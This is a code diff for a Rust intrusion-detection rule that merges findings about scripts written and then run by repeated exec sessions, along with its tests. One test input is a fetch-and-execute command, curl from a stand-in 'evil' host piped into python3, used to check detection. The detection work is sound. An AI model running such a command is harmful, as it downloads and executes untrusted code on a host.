@@ -11,8 +11,9 @@ use super::script_paths::{locate, scripts};
 use crate::detect::alert::Alerts;
 use crate::detect::rule_context::RuleContext;
 use crate::detect::rule_memory::RuleMemory;
-use crate::detect::{Handler, Rule, program_roles};
+use crate::detect::{Handler, Rule, command_shape, program_roles};
 use crate::event::{Bytes, Exec, Timestamp};
+use crate::state::ProcessEntry;
 
 /// Scripts.
 pub(super) const SCRIPT: Rule = Rule {
@@ -29,17 +30,39 @@ const MAX_WRITERS: usize = 64;
 
 /// Processes that wrote scripts and had them run, and the script that their finding is about.
 #[derive(Debug, Clone, Default)]
-struct ScriptWriters(VecDeque<(u32, Timestamp, Bytes)>);
+struct ScriptWriters(VecDeque<(ScriptWriter, Bytes)>);
+
+/// Who writes scripts and has them run.
+#[derive(Debug, Clone, PartialEq)]
+enum ScriptWriter {
+    /// A process, by its pid and start.
+    Process(u32, Timestamp),
+    /// Exec sessions of commands that differ in numbers only, as those of deployment tools do.
+    Sessions(Vec<Bytes>),
+}
+
+impl ScriptWriter {
+    fn of(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Self {
+        match ctx
+            .session()
+            .and_then(|root| ctx.state.processes.get(&root))
+        {
+            Some(root) if root.argv.len() > 1 => Self::Sessions(command_shape::of(&root.argv)),
+            _ => Self::Process(writer.pid, writer.started),
+        }
+    }
+}
 
 impl RuleMemory for ScriptWriters {
     fn heap_bytes(&self) -> usize {
-        self.0.len() * 128
+        self.0.len() * 256
     }
 }
 
 impl ScriptWriters {
     /// What the finding about a script is about. The scripts that one process writes, itself or
     /// by a program it starts, and then has run, as jobs do, are one finding: about the first.
+    /// So are those of the same exec command given again and again.
     fn subject(&mut self, ctx: &RuleContext<'_>, path: &[u8]) -> Bytes {
         let Some(activity) = ctx.activity(path) else {
             return Bytes::new(path);
@@ -53,17 +76,14 @@ impl ScriptWriters {
         let Some(writer) = runs.find(|p| writers.contains(&p.pid)) else {
             return Bytes::new(path);
         };
-        let known = |(pid, started, _): &&(u32, Timestamp, Bytes)| {
-            (*pid, *started) == (writer.pid, writer.started)
-        };
-        if let Some((.., subject)) = self.0.iter().find(known) {
+        let writer = ScriptWriter::of(ctx, writer);
+        if let Some((_, subject)) = self.0.iter().find(|(known, _)| *known == writer) {
             return subject.clone();
         }
         if self.0.len() >= MAX_WRITERS {
             self.0.pop_front();
         }
-        self.0
-            .push_back((writer.pid, writer.started, Bytes::new(path)));
+        self.0.push_back((writer, Bytes::new(path)));
         Bytes::new(path)
     }
 }
@@ -197,5 +217,50 @@ mod tests {
             w.exec_as(p, init, &exe, argv, |e| e.cwd = "/tmp".into());
             assert_eq!(!w.all("drift.script").is_empty(), runs, "{argv:?}");
         }
+    }
+
+    #[test]
+    fn scripts_of_one_exec_command_given_again_are_one_finding() {
+        let run = |w: &mut World, command: &str, path: &str| {
+            let s = w.session(&["sh", "-c", command]);
+            w.create(s, path);
+            w.exec(s, "/usr/bin/python3", &["python3", path]);
+        };
+        let mut w = World::steady();
+        for n in 0..4 {
+            let path = format!("/root/.ansible/tmp-{n}/module.py");
+            run(&mut w, &format!("python3 {path} && sleep 0"), &path);
+        }
+        let all = w.all("drift.script");
+        assert_eq!((all.len(), all[0].count), (1, 4), "{all:?}");
+        // Another command is another finding.
+        run(
+            &mut w,
+            "curl http://evil/x > /tmp/y; python3 /tmp/y",
+            "/tmp/y",
+        );
+        assert_eq!(w.all("drift.script").len(), 2);
+    }
+
+    #[test]
+    fn a_supervisors_scripts_on_a_tmpfs_were_there_before_watching() {
+        let ran = |dir: &str, parent: &str| {
+            let mut w = World::found();
+            w.info(|i| {
+                i.mounts.push(Mount {
+                    kind: "tmpfs".into(),
+                    destination: dir.into(),
+                    ..Mount::default()
+                });
+            });
+            let init = w.init();
+            let above = w.exec(init, parent, &[parent]);
+            let script = format!("{dir}/service/run");
+            w.exec(above, "/bin/sh", &["sh", &script]);
+            w.highest()
+        };
+        assert_eq!(ran("/run", "/usr/bin/supervisord"), Severity::Info);
+        assert_eq!(ran("/dev/shm", "/usr/bin/supervisord"), Severity::Medium);
+        assert_eq!(ran("/run", "/usr/sbin/nginx"), Severity::Medium);
     }
 }
